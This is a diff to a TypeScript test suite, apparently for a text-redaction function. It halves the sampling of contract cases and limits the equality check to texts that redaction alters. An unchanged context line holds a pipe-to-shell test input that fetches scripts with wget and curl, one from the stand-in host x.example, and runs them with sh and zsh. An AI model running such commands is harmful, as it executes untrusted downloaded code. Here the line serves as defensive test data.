@@ -38,8 +38,8 @@ const TRICKY = [
   "wget -O- file:///home/bob/sh | sh && curl ftp://bob@x.example/i | zsh",
 ];
 
-/** Neighbours among the cases are much alike: every fifth meets what all of them do. */
-const contractCases = (): string[] => contractTexts().filter((_, index) => index % 5 === 0);
+/** Neighbours among the cases are much alike: every tenth meets what all of them do. */
+const contractCases = (): string[] => contractTexts().filter((_, index) => index % 10 === 0);
 
 const generated = (): string[] =>
   fc
@@ -52,7 +52,7 @@ describe.each<Profile>(["contract", "extended"])("under the profile %s", (profil
   it.each<[string, () => string[]]>([
     ["every row of the corpora", corpusTexts],
     ["every row of the extended corpus", extendedTexts],
-    ["every fifth contract case", contractCases],
+    ["every tenth contract case", contractCases],
     ["generated documents", generated],
     ["texts made for it", () => [...TRICKY, ...UNICODE_TEXTS]],
   ])("%s", { timeout: 180_000 }, async (_name, texts) => {
@@ -63,7 +63,8 @@ describe.each<Profile>(["contract", "extended"])("under the profile %s", (profil
     };
     const all = texts();
     expect(all.length).toBeGreaterThan(20);
-    expect(all.some((text) => redact(text) !== text)).toBe(true);
-    for (const text of all) expect({ text, ...answer(redact(text)) }).toEqual({ text, ...answer(text) });
+    const changed = all.filter((text) => redact(text) !== text);
+    expect(changed.length).toBeGreaterThan(0);
+    for (const text of changed) expect({ text, ...answer(redact(text)) }).toEqual({ text, ...answer(text) });
   });
 });
